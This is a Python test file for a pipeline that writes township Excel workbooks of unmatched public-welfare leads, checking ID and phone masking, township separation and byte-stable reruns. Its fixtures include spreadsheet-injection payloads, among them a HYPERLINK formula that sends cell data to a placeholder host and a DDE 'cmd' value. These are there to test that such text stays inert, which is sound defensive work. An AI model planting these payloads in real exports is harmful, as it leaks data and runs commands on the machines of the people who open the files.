"""The 线索核查 sheet of the township workbooks (docs/outputs.md, "Township workbooks"): a
township's leads whose person the linkage could not find, for its villages to locate on the
ground, ID and phone numbers masked, text as text; never another township's lead, never a
matched one; a township with such a lead and no alert gets its workbook for it; the sheet
is the same bytes on a rerun and in a partitioned run, and a returned workbook holding it
is read and applied as before."""

from __future__ import annotations

import hashlib
import io
import re
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pandas as pd
import pytest

from pipeline.dispatch.township_workbook import (
    DETAIL_SHEET,
    LEAD_COLUMNS,
    LEAD_SHEET,
    SUMMARY_SHEET,
    detail_column,
)
from pipeline.dispatch.workbooks import township_leads
from pipeline.feedback.returns import read_returned
from pipeline.feeds.registry import load_registry
from pipeline.runs import RunFolder, read_partition_report
from pipeline.settings import load_settings
from pipeline.steps import run_day
from tests.conftest import person_id, write_delivery

D = date(2026, 3, 10)
T1, T2 = "341702101", "341702102"  # 青山镇, 白水乡
# village index: township code, township name, village code, village name
VILLAGES = {
    1: (T1, "青山镇", f"{T1}001", "桃园村"),
    2: (T1, "青山镇", f"{T1}002", "柳河村"),
    3: (T2, "白水乡", f"{T2}003", "石桥村"),
}
PEOPLE = [
    # key, household number, name, birth, village index
    ("zhang", 1, "张建国", date(1968, 4, 2), 1),
    ("zhang_wife", 1, "李秀英", date(1970, 8, 9), 1),
    ("wang", 2, "王小明", date(1985, 1, 20), 1),
    ("liu_a", 3, "刘伟", date(1979, 3, 3), 2),
    ("liu_b", 4, "刘伟", date(1990, 6, 6), 2),
    ("zhao", 5, "赵桂兰", date(1955, 12, 1), 3),
    ("sun", 6, "孙立平", date(1972, 5, 5), 3),
]
IDS = {key: person_id(number, birth=birth) for number, (key, _, _, birth, _) in enumerate(PEOPLE)}
HOUSEHOLDS = {number: index for _, number, _, _, index in PEOPLE}
# The ID number a caller gave for someone who is in no household of the registry.
STRANGER_ID = person_id(77, birth=date(1983, 2, 2))
HYPERLINK = '=HYPERLINK("http://x.example/?q="&A1,"点击查看")'
PHONE = "13912345678"


def household_id(number: int) -> str:
    return f"{VILLAGES[HOUSEHOLDS[number]][2]}{number:04d}"


def lead(
    lead_id: str,
    source: str,
    name: str,
    id_text: str | None,
    township: str,
    village: str,
    summary: str,
    phone: str = PHONE,
) -> list[Any]:
    return [lead_id, source, D.isoformat(), name, id_text, township, village, phone, summary]


LEADS = [
    # matched by ID number: an alert of 青山镇, on no 线索核查 sheet
    lead("XS1", "信访", "张建国", IDS["zhang"], "青山镇", "桃园村", "反映家中老人住院费用高"),
    # two registered 刘伟 of 柳河村: ambiguous, on 青山镇's sheet with both candidates
    lead("XS2", "舆情", "刘伟", None, "青山镇", "柳河村", HYPERLINK),
    # nobody like her in 白水乡: unmatched, on 白水乡's sheet (a township without alerts)
    lead(
        "XS3",
        "自主申报",
        "孙丽萍",
        STRANGER_ID,
        "白水镇",
        "石桥村",
        "自述收入骤降，联系人电话13512345678",
        "13987654321",
    ),
    # said to live in 青山镇: unmatched there; the 赵桂兰 of 白水乡 is a candidate by name
    lead("XS4", "12317", "赵桂兰", None, "青山镇", "桃园村", "反映房屋漏雨"),
    # a township that does not exist: the bureau's (leads_unmatched.csv), no township's
    lead("XS5", "信访", "赵桂兰", None, "黑山镇", "石桥村", "反映房屋倒塌"),
    # text a spreadsheet would evaluate, in every field it can be
    lead("=XS6", "媒体", "=1+1", None, "青山乡", "@桃园", "-1+1+cmd|' /C calc'!A0"),
]
UNMASKED_ID = re.compile(r"(?<![\d*])\d{17}[\dXx](?![\d*])|(?<![\d*])\d{15}(?![\d*])")
UNMASKED_MOBILE = re.compile(r"(?<![\d*])1[3-9]\d{9}(?![\d*])")


def deliver_day(inbox: Path) -> None:
    registry = load_registry()
    households: dict[int, list[Any]] = {}
    members = []
    for key, number, name, _, index in PEOPLE:
        township_code, township_name, village_code, village_name = VILLAGES[index]
        members.append(
            [
                household_id(number),
                name,
                IDS[key],
                "户主" if number not in households else "配偶",
                "男",
                "普通劳动力",
                "健康",
                None,
                "非在校生",
                "未务工",
            ]
        )
        households.setdefault(
            number,
            [
                household_id(number),
                name,
                IDS[key],
                township_code,
                township_name,
                village_code,
                village_name,
                "一组",
                f"{village_code}G01",
                "脱贫户",
                None,
                None,
                None,
                2,
                40000,
                "13800000000",
            ],
        )
    write_delivery(inbox, registry["households"], D, list(households.values()))
    write_delivery(inbox, registry["members"], D, members)
    write_delivery(inbox, registry["leads"], D, LEADS)


def books(outbox: Path) -> dict[str, Path]:
    """The day's township workbooks by township code."""
    return {path.name[:9]: path for path in sorted((outbox / "townships").glob("*.xlsx"))}


def digests(outbox: Path) -> dict[str, str]:
    return {
        path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in books(outbox).values()
    }


def fill_in(path: Path, returned: Path) -> str:
    """The grid verifies the first alert of the workbook and scribbles on 线索核查 (a
    formula, a note in a column of its own); returns the alert's id."""
    book = openpyxl.load_workbook(path)
    detail = book[DETAIL_SHEET]
    for header, value in (("核实结果", "属实-已落实帮扶"), ("核实人", "李网格"), ("核实日期", D)):
        detail.cell(row=2, column=detail_column(header), value=value)
    leads = book[LEAD_SHEET]
    leads.cell(row=3, column=len(LEAD_COLUMNS) + 1, value="已找到，系本村村民")
    leads.cell(row=4, column=len(LEAD_COLUMNS) + 1, value="=1+1")
    returned.parent.mkdir(parents=True, exist_ok=True)
    book.save(returned)
    return str(detail.cell(row=2, column=1).value)


@pytest.fixture(scope="module")
def district(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("township_leads")
    inbox = root / "inbox"
    deliver_day(inbox)
    whole = load_settings(root / "whole", inbox)
    first = run_day(whole, D)
    sent = digests(first.outbox)
    rerun = digests(run_day(whole, D).outbox)
    # The same day in two partitions, one a township: each writes its own workbooks.
    parted_home = root / "parted"
    parted_home.mkdir()
    (parted_home / "config.yaml").write_text(
        f"partitions:\n  north: ['{T1}']\n  south: ['{T2}']\n", encoding="utf-8"
    )
    parted_settings = load_settings(parted_home, inbox)
    parted = run_day(parted_settings, D)
    # Which workbooks each partition wrote itself.
    written = {
        partition: read_partition_report(RunFolder.of(parted_settings.home, D), partition)
        for partition in ("north", "south")
    }
    # 青山镇 returns its workbook, 线索核查 sheet and all; the next day applies it.
    returned = inbox / "feedback" / books(first.outbox)[T1].name
    verified = fill_in(books(first.outbox)[T1], returned)
    after = run_day(whole, D + timedelta(days=1))
    return {
        "outbox": first.outbox,
        "sent": sent,
        "rerun": rerun,
        "parted": digests(parted.outbox),
        "written": {
            partition: sorted(
                name[len("townships/") : len("townships/") + 9] for name in report["township_files"]
            )
            for partition, report in written.items()
        },
        "returned": returned,
        "verified": verified,
        "after": after,
    }


def lead_rows(path: Path) -> pd.DataFrame:
    return pd.read_excel(path, sheet_name=LEAD_SHEET, header=1, dtype=str).fillna("")


def test_each_township_lists_its_own_leads_to_locate_and_no_others(district):
    workbooks = books(district["outbox"])
    assert sorted(workbooks) == [T1, T2]
    qingshan, baishui = lead_rows(workbooks[T1]), lead_rows(workbooks[T2])
    assert list(qingshan.columns) == [column.header for column in LEAD_COLUMNS]
    # Not the matched XS1 (an alert), not XS5 of no known township, not the other's leads.
    assert sorted(qingshan["线索编号"]) == ["=XS6", "XS2", "XS4"]
    assert list(baishui["线索编号"]) == ["XS3"]
    listed = qingshan.set_index("线索编号")
    assert listed.loc["XS2", "来源"] == "舆情"
    assert listed.loc["XS2", "村"] == "柳河村"
    assert listed.loc["XS2", "未找到原因"].startswith("有2名登记人员匹配概率达到阈值")
    assert "没有达到匹配概率阈值" in listed.loc["XS4", "未找到原因"]
    assert baishui.loc[0, "当事人姓名"] == "孙丽萍"
    assert baishui.loc[0, "登记日期"].startswith(D.isoformat())


def test_every_lead_not_matched_of_a_known_township_is_on_a_sheet(district):
    bureau = pd.read_csv(
        district["outbox"] / "leads_unmatched.csv", encoding="utf-8-sig", dtype=str
    )
    # (a CSV field starting with "=" gets a leading quote: docs/outputs.md)
    known = {
        lead_id.removeprefix("'") for lead_id in bureau.loc[bureau["乡镇代码"].notna(), "线索编号"]
    }
    on_sheets = {
        lead_id
        for path in books(district["outbox"]).values()
        for lead_id in lead_rows(path)["线索编号"]
    }
    assert known == on_sheets == {"XS2", "XS3", "XS4", "=XS6"}


def test_id_and_phone_numbers_are_masked(district):
    workbooks = books(district["outbox"])
    stranger = lead_rows(workbooks[T2]).iloc[0]
    assert stranger["身份证号"] == STRANGER_ID[:6] + "*" * 8 + STRANGER_ID[-4:]
    assert stranger["联系电话"] == "139****4321"
    assert "135****5678" in stranger["内容摘要"]  # a number inside the text too
    assert set(lead_rows(workbooks[T1])["联系电话"]) == {"139****5678"}
    for path in workbooks.values():
        for row in openpyxl.load_workbook(path)[LEAD_SHEET].iter_rows(values_only=True):
            for value in row:
                assert not UNMASKED_ID.search(str(value)), (path.name, value)
                assert not UNMASKED_MOBILE.search(str(value)), (path.name, value)


def test_candidates_are_the_townships_own_members_masked(district):
    listed = lead_rows(books(district["outbox"])[T1]).set_index("线索编号")
    ambiguous = listed.loc["XS2", "候选人"]
    assert ambiguous.count("刘伟") == 2
    for key in ("liu_a", "liu_b"):
        assert IDS[key] not in ambiguous
        assert IDS[key][:6] + "*" * 8 + IDS[key][-4:] in ambiguous
    assert household_id(3) in ambiguous
    assert household_id(4) in ambiguous
    # The 赵桂兰 of 白水乡 is a candidate of XS4 by name: counted, never named to 青山镇.
    assert "赵桂兰" not in listed.loc["XS4", "候选人"]
    assert household_id(5) not in listed.loc["XS4", "候选人"]
    assert "另有1名候选人不在本乡镇" in listed.loc["XS4", "未找到原因"]
    assert listed.loc["=XS6", "候选人"] == "无"


def test_text_starting_with_a_formula_sign_stays_text(district):
    sheet = openpyxl.load_workbook(books(district["outbox"])[T1])[LEAD_SHEET]
    shown = {}
    for row in sheet.iter_rows(min_row=3):
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                shown[cell.value] = cell.coordinate
    for text in ("=XS6", "=1+1", "@桃园", "-1+1+cmd|' /C calc'!A0", HYPERLINK):
        assert text in shown, text


def test_what_the_village_is_told_to_do(district):
    path = books(district["outbox"])[T2]
    book = openpyxl.load_workbook(path)
    # A township with a lead to locate and no alert gets its workbook all the same.
    assert book.sheetnames == [SUMMARY_SHEET, DETAIL_SHEET, LEAD_SHEET]
    assert book[DETAIL_SHEET].max_row == 1
    note = book[LEAD_SHEET]["A1"].value
    for words in ("实地找到当事人", "网格员月报", "户编号", "不需要交回"):
        assert words in note
    summary = [value for row in book[SUMMARY_SHEET].iter_rows(values_only=True) for value in row]
    assert f"群众反映线索待实地查找当事人：1 条，详见“{LEAD_SHEET}”工作表" in summary


def test_the_workbooks_are_the_same_bytes_on_a_rerun_and_in_partitions(district):
    assert len(district["sent"]) == 2
    assert district["rerun"] == district["sent"]
    assert district["parted"] == district["sent"]
    # Each partition wrote its own township's workbook, leads included, and no other's.
    assert district["written"] == {"north": [T1], "south": [T2]}


def test_a_returned_workbook_with_the_sheet_is_read_as_before(district):
    returned = read_returned(district["returned"])
    assert returned.problem is None
    assert returned.without_alert is None
    assert [(row.alert_id, row.result, row.verifier) for row in returned.rows] == [
        (district["verified"], "属实-已落实帮扶", "李网格")
    ]
    # Read as the same workbook without the sheet is.
    book = openpyxl.load_workbook(district["returned"])
    del book[LEAD_SHEET]
    without = district["returned"].parent.parent / "without" / district["returned"].name
    without.parent.mkdir(exist_ok=True)
    buffer = io.BytesIO()
    book.save(buffer)
    without.write_bytes(buffer.getvalue())
    assert read_returned(without).rows == returned.rows
    # And applied: the next day closes the alert.
    manifest = district["after"].manifest
    assert manifest["feedback"]["files"] == {district["returned"].name: "applied"}
    assert manifest["feedback"]["rows_applied"] == 1
    alerts = pd.read_csv(district["after"].outbox / "alerts.csv", encoding="utf-8-sig", dtype=str)
    assert district["verified"] not in set(alerts["alert_id"])


def test_a_warehouse_that_never_linked_leads_has_none_to_locate():
    with duckdb.connect() as connection:
        leads = township_leads(connection, D)
    assert leads.empty
    assert "township_code" in leads.columns
